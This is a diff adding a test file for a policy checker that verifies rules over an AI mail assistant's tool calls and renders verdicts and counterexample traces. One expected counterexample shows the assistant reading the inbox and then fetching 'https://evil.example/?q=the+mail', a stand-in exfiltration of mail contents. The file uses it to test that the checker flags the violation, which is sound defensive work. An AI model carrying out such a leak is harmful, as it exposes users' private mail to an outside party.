@@ -1,0 +1,162 @@
+import { describe, expect, test } from 'vitest';
+import { factsAt } from '../../client/trace/facts.js';
+import { argumentTokens, callText, decidedText, durationText, placeText } from '../../client/trace/format.js';
+import { sessionContent } from '../../client/trace/content.js';
+import { basisText, sessionMarkdown } from '../../client/trace/markdown.js';
+import { claimTone, policySummary, policyTone } from '../../client/verdicts.js';
+import type { VerdictWord } from '../../server/checker/result.js';
+import { approved, at, basis, counterexample, repairedResult, result, uri, violatedClaim } from './fixtures/results.js';
+
+describe('format', () => {
+    test.each([
+        [{}, 'a.b()'],
+        [{ folder: 'in"box' }, 'a.b(folder: "in\\"box")'],
+        [{ n: -1.5, ok: true, no: null }, 'a.b(n: -1.5, ok: true, no: null)'],
+        [
+            { 'x-id': ['a', [1]], body: { text: 'x', 'a b': {} } },
+            'a.b(`x-id`: ["a", [1]], body: {text: "x", `a b`: {}})'
+        ]
+    ])('a call with %j', (args, text) => {
+        expect(callText({ tool: 'a.b', args })).toBe(text);
+    });
+
+    test('the parts of an argument are told apart', () => {
+        expect(argumentTokens({ limit: 3 })).toEqual([
+            { kind: 'name', text: 'limit' },
+            { kind: 'plain', text: ': ' },
+            { kind: 'number', text: '3' }
+        ]);
+    });
+
+    test.each([
+        [0, '0s'],
+        [59, '59s'],
+        [900, '15m'],
+        [5400, '1h 30m'],
+        [90_061, '1d 1h 1m 1s']
+    ])('%d seconds', (seconds, text) => {
+        expect(durationText(seconds)).toBe(text);
+    });
+
+    test('a place is a file and a line as editors count them', () => {
+        expect(placeText(at(8))).toBe('mail.guardrail:9');
+        expect(placeText({ ...at(0), uri: 'file:///a/b%20c.guardrail' })).toBe('b c.guardrail:1');
+        expect(placeText({ ...at(0), uri: 'file:///a/100%.guardrail' })).toBe('100%.guardrail:1');
+    });
+
+    test.each([
+        [{ by: 'default' }, 'No rule allows it.'],
+        [{ by: 'inventory' }, 'It does not fit the inventory.'],
+        [{ by: 'unknown' }, 'since a condition is unknown, by'],
+        [{ by: 'rule' }, 'by'],
+        [{ kind: 'approve', rules: [] }, '']
+    ] as const)('decided %j', (part, text) => {
+        expect(decidedText({ ...counterexample.steps[0]!, ...part })).toBe(text);
+    });
+});
+
+test('facts: what came is first, what went is last', () => {
+    expect(factsAt(approved, 0)).toEqual([]);
+    expect(factsAt(approved, 2)).toEqual([
+        { text: 'web.post is held for reviewer', state: 'new' },
+        { text: 'assistant carries private', state: 'kept' },
+        { text: 'once mail.read', state: 'kept' },
+        { text: 'assistant carries untrusted', state: 'gone' }
+    ]);
+});
+
+describe('Markdown', () => {
+    const done = { uri, version: 1, state: 'done', result } as const;
+
+    test('of a counterexample', () => {
+        const markdown = sessionMarkdown(sessionContent({ uri, kind: 'claim', name: violatedClaim.name }, done));
+        expect(markdown).toBe(
+            `### mail leaves only through a person
+
+**violated** · claim of policy \`MailAssistant\`
+
+\`\`\`guardrail
+never external tools after mail.read unless approved by reviewer
+\`\`\`
+
+web.fetch is released after mail.read, and reviewer did not approve it.
+
+1. assistant calls \`mail.read(folder: "inbox")\` → **allowed**
+   - by \`allow assistant: mail.read, mail.draft, web.fetch, web.post\` (mail.guardrail:9)
+   - + assistant carries private
+   - + assistant carries untrusted
+   - + once mail.read
+   - *breaks: without this step the claim would not be broken*
+2. assistant calls \`web.fetch(url: "https://evil.example/?q=the+mail")\` → **allowed**
+   - by \`allow assistant: mail.read, mail.draft, web.fetch, web.post\` (mail.guardrail:9)
+   - *the claim judges this step*
+
+<sub>3 states, 7 transitions, 2 steps deep, 12 ms</sub>
+`
+        );
+    });
+
+    test('of holds, approvals, changes, times and backquoted names', () => {
+        const scenario = sessionContent({ uri, kind: 'scenario', name: result.scenarios[0]!.name }, done);
+        const lines = sessionMarkdown(scenario).split('\n');
+        expect(lines).toContain(
+            '   - by `require approval by reviewer for web.post when carries private` (mail.guardrail:10): mail may leave only through a person'
+        );
+        expect(lines).toContain('   - ± web.post: held → approved');
+        expect(lines).toContain('   - − web.post is held for reviewer');
+        expect(lines).toContainEqual(expect.stringMatching(/^3\. reviewer approves .* → \*\*approved\*\* at 15m$/));
+        expect(lines).toContain('5. assistant calls `` shell.`run-now`() `` → **denied** at 1h 30m');
+        expect(lines).toContain('   - No rule allows it.');
+    });
+});
+
+test('what a verdict rests on', () => {
+    expect(basisText(basis)).toBe('1,204 states, 3,411 transitions, 5 steps deep, 12 ms');
+    expect(basisText({ ...basis, states: 1, depth: 1, milliseconds: 0.4 })).toBe(
+        '1 state, 3,411 transitions, 1 step deep, under 1 ms'
+    );
+});
+
+describe('verdicts', () => {
+    test.each<[VerdictWord, string]>([
+        ['holds', 'good'],
+        ['witnessed', 'good'],
+        ['violated', 'bad'],
+        ['impossible', 'bad'],
+        ['holds in scope', 'warn'],
+        ['not witnessed in scope', 'warn'],
+        ['vacuous', 'warn'],
+        ['undecided', 'warn']
+    ])('%s is %s', (verdict, tone) => {
+        expect(claimTone({ verdict, saysNothing: false })).toBe(tone);
+        expect(claimTone({ verdict, saysNothing: true })).not.toBe('good');
+    });
+
+    const withVerdicts = (...verdicts: VerdictWord[]) => ({
+        ...repairedResult,
+        claims: verdicts.map((verdict) => ({ ...repairedResult.claims[0]!, verdict }))
+    });
+    const failed = [{ ...result.scenarios[0]!, passed: false }];
+
+    test.each([
+        [withVerdicts('violated', 'holds'), 'bad', '1 of 2 claims violated'],
+        [withVerdicts('violated', 'impossible'), 'bad', '2 claims violated'],
+        [withVerdicts('impossible'), 'bad', '1 claim impossible'],
+        [withVerdicts('holds', 'witnessed'), 'good', '2 claims hold'],
+        [withVerdicts('holds'), 'good', '1 claim holds'],
+        [withVerdicts('holds', 'vacuous'), 'warn', '1 of 2 claims vacuous'],
+        [withVerdicts('undecided', 'vacuous'), 'warn', '2 claims not firm'],
+        [{ ...withVerdicts('holds'), scenarios: failed }, 'bad', '1 scenario failed'],
+        [{ ...withVerdicts(), scenarios: result.scenarios }, 'good', '1 scenario passed'],
+        [{ ...withVerdicts(), scenarios: [] }, 'good', 'no claims'],
+        [{ ...withVerdicts('holds'), findings: result.findings }, 'warn', '1 claim holds'],
+        [
+            { ...withVerdicts('holds'), findings: [{ ...result.findings[0]!, severity: 'error' as const }] },
+            'bad',
+            '1 finding'
+        ]
+    ])('a policy in short (%#)', (of, tone, summary) => {
+        expect(policyTone(of)).toBe(tone);
+        expect(policySummary(of)).toBe(summary);
+    });
+});
